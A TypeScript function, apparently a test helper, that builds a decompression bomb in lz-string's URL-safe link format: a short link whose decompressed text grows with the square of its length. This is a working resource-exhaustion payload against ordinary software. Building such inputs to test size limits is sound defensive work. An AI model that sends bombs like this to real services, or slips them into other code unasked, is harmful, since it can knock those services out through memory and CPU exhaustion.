/**
 * A decompression bomb in lz-string's link format, written bit by bit: one
 * letter, then `codes` codes that each name the entry being made (one longer
 * every time), so the text grows with the square of the link's length.
 */
export function bombLink(codes: number): string {
  const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$";
  let out = "";
  let acc = 0;
  let n = 0;
  const write = (value: number, bits: number) => {
    for (let i = 0; i < bits; i++) {
      acc = (acc << 1) | ((value >> i) & 1);
      if (++n === 6) {
        out += ALPHABET[acc];
        acc = 0;
        n = 0;
      }
    }
  };
  write(0, 2);
  write("a".charCodeAt(0), 8);
  let dictSize = 4;
  let numBits = 3;
  let enlargeIn = 4;
  for (let i = 0; i < codes; i++) {
    write(dictSize, numBits);
    dictSize++;
    if (--enlargeIn === 0) {
      enlargeIn = 2 ** numBits;
      numBits++;
    }
  }
  write(2, numBits);
  if (n > 0) out += ALPHABET[acc << (6 - n)];
  return out;
}
